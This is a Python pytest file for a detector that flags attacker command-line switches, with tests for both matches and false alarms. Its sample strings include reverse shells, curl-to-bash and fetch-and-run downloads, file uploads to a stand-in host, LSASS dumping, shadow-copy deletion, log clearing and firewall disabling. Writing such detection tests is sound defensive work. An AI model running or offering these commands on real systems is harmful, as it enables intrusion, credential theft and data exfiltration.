"""Switches that attackers use are told however they are written, and nothing that only looks like one."""

import re

import polars as pl
import pytest

from phantom_ml.features.parsing import command_lines as lines
from phantom_ml.features.parsing.command_signs import shortened
from phantom_ml.features.parsing.risky_switches import risky_switches, switch_patterns


def has(switch: str, text: str) -> bool:
    return pl.select(lines.normal(pl.lit(text)).str.contains(switch_patterns()[switch][1])).item()


def test_switches_may_be_shortened_to_any_length_that_is_still_theirs():
    pattern = re.compile(shortened("encodedcommand", 1))
    word = "encodedcommand"
    assert all(pattern.fullmatch(word[:n]) for n in range(1, len(word) + 1))
    assert not pattern.fullmatch("enk")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("delete_shadow_copies", "vssadmin.exe Delete Shadows /All /Quiet"),
        ("delete_shadow_copies", "wmic shadowcopy delete"),
        ("disable_recovery", "bcdedit /set {default} recoveryenabled no"),
        ("clear_event_logs", "wevtutil cl Security"),
        ("dump_hives", r"reg save HKLM\SAM C:\t\sam"),
        ("add_user", "net user eve P@ss1 /add"),
        ("add_to_group", "net localgroup administrators eve /add"),
        ("create_task", r"schtasks /create /tn x /tr C:\a.exe /sc onlogon"),
        ("rundll32_script", r'rundll32.exe javascript:"\..\mshtml,RunHTMLApplication "'),
        ("regsvr32_script", "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll"),
        ("mshta_remote", "mshta http://a.example/x.hta"),
        ("bypass_execution_policy", "powershell -ExecutionPolicy Bypass -File a.ps1"),
        ("netcat_shell", "nc -e /bin/sh 10.0.0.1 4444"),
        ("dev_tcp_shell", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
        ("interactive_shell", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"),
        ("make_executable", "chmod +x /tmp/a"),
        ("make_executable", "chmod 777 /tmp/bins.sh"),
        ("set_uid", "chmod u+s /tmp/sh"),
        ("decode_file", "echo aGk= | base64 -d"),
        ("create_cron", "(crontab -l; echo x) | crontab -"),
        ("pipe_to_shell", "curl -fsSL http://a.example/i.sh | bash"),
        ("fetch_and_run", "wget http://a.example/b; chmod +x b; ./b"),
        ("certutil_download", "certutil -urlcache -split -f http://a.example/b.exe"),
        ("dump_lsass", r"rundll32 C:\windows\System32\comsvcs.dll, MiniDump 624 lsass.dmp full"),
        ("remote_wmi", "wmic /node:SRV process call create cmd.exe"),
        ("run_key", r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b"),
        ("clear_history", "history -c"),
        ("mine_coins", "./xmrig -o stratum+tcp://pool.example:3333"),
        ("make_executable", "chmod 755 /dev/shm/.x"),
        ("upload_file", "curl -T db.zip ftp://a.example/"),
        ("upload_file", "curl -sT 'db.zip' https://a.example/?a=1&b=2"),
        ("upload_file", "curl.exe https://a.example/?a=1&b=2 -F file=@db.zip"),
        ("upload_file", "curl --upload-file db.zip https://a.example/"),
        ("upload_file", "curl --form file=@db.zip https://a.example/"),
        ("change_firewall", "netsh advfirewall set allprofiles state off"),
        ("change_firewall", "netsh advfirewall firewall add rule name=x dir=in action=allow"),
        ("xsl_script", r'wmic os get /format:"C:\a b\x.xsl"'),
        ("xsl_script", "wmic process list /FORMAT:https://a.example/x"),
        ("build_file", r"MSBuild.exe C:\x\pshell.xml"),
        ("build_file", r"msbuild /nologo C:\Users\ann\AppData\Local\Temp\a.csproj"),
        ("build_file", r"msbuild \\10.0.0.1\share\a.proj"),
        ("dump_lsass", "procdump -ma lsass.exe out"),
        ("dump_lsass", 'tasklist /fi "imagename eq lsass.exe"'),
        ("dump_lsass", r"copy C:\Temp\lsass.dmp x"),
        ("encoded_command", "powershell -nop -Enco dwBoAG8AYQBtAGkA"),
        ("encoded_command", "pwsh -EncodedCommand dwBoAG8AYQBtAGkA"),
        ("tunnel", "ssh -fN -D 1080 eve@a.example"),
        ("tunnel", "ssh -i key -R 127.0.0.1:8022:localhost:22 eve@a.example"),
        ("tunnel", "ssh eve@a.example -L 8080:db:5432"),
        ("wipe_free_space", r"sdelete64.exe -z C:"),
        ("stop_services", "taskkill /F /IM sqlservr.exe"),
        ("stop_services", "taskkill /im x /f"),
        ("remote_wmi", "powershell ([wmiclass]'Win32_Process').Create('calc')"),
        ("remote_wmi", "powershell Invoke-WmiMethod -Class Win32_Process -Name Create"),
    ],
)
def test_a_risky_switch_is_told(name, text):
    assert has(name, text)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("make_executable", "chmod 755 /usr/local/bin/app"),
        ("make_executable", "chmod 755 app; ls /tmp"),
        ("upload_file", "curl -f https://a.example/"),
        ("upload_file", "curl -fsSL https://a.example/?q=@x"),
        ("upload_file", "curl -t TTYPE=vt100 telnet://a.example"),
        ("upload_file", "curl -XPOST https://a.example/"),
        ("upload_file", "curl https://a.example/x.tar | tar -t x"),
        ("upload_file", "apt install libcurl4 -t stable"),
        ("change_firewall", "netsh advfirewall show allprofiles"),
        ("change_firewall", "netsh advfirewall firewall show rule name=all"),
        ("xsl_script", "wmic process get name /format:list"),
        ("xsl_script", r"wmic os get name /format:csv>C:\out.csv"),
        ("build_file", "msbuild x.csproj"),
        ("build_file", r"msbuild C:\src\x.csproj /p:DocumentationFile=x.xml"),
        ("dump_lsass", r"C:\Windows\System32\lsass.exe"),
        ("dump_lsass", '"lsass.exe"'),
        ("encoded_command", "powershell Out-File a.txt -Encoding utf8NoBOM"),
        ("tunnel", "ssh web1 date -d 20241128"),
        ("tunnel", "ssh -l user22 web1"),
        ("tunnel", "sshd -d -p 2222"),
        ("wipe_free_space", "app.exe --usersdelete"),
        ("stop_services", "taskkill /pid 42 /f"),
        ("remote_wmi", "powershell Get-WmiObject Win32_Process | sort CreationDate"),
    ],
)
def test_what_only_looks_like_a_risky_switch_is_not_told(name, text):
    assert not has(name, text)


@pytest.mark.parametrize(
    ("name", "technique"),
    [
        ("mine_coins", "T1496.001"),
        ("clear_event_logs", "T1685.005"),
        ("clear_logs", "T1685.006"),
        ("change_firewall", "T1686"),
        ("disable_defender", "T1685"),
    ],
)
def test_a_risky_switch_names_the_technique_of_today(name, technique):
    assert switch_patterns()[name][0] == technique


@pytest.mark.parametrize(
    "text",
    [
        "dotnet build -c Release",
        "git commit -m 'fix the build'",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US',
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        "python -m pytest tests/test_a.py",
        r"winword.exe /n C:\Users\Public\draft.docx",
        "tar -czf backup.tar.gz /srv/data",
        "chmod 644 index.html",
        "ping -n 1 host",
        "ls -la /home/ann",
    ],
)
def test_everyday_lines_show_no_risky_switch(text):
    normal = pl.select(lines.normal(pl.lit(text))).to_series()
    assert risky_switches(normal)["risky_switch_count"].item() == 0
